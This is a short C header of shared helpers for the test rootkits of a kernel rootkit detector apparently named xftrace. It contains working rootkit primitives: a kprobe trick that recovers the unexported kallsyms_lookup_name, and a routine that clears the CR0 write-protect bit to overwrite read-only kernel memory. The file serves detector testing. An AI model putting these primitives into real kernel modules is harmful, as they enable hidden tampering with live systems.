/* SPDX-License-Identifier: GPL-2.0 */
/*
 * Shared helpers of xftrace's test rootkits. They do what real control-data
 * rootkits do, on the test guest only, so the detector is proven against the
 * techniques rather than against a kernel made easy for it.
 */
#include <linux/kprobes.h>
#include <linux/string.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

/* kallsyms_lookup_name() is not exported since 5.7: find it with a kprobe. */
static unsigned long __maybe_unused rk_lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&kp) < 0)
		return 0;
	lookup = (void *)kp.addr;
	unregister_kprobe(&kp);
	return lookup(name);
}

/* Write to read-only kernel memory by clearing CR0.WP around the copy. */
static void __maybe_unused rk_write(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}
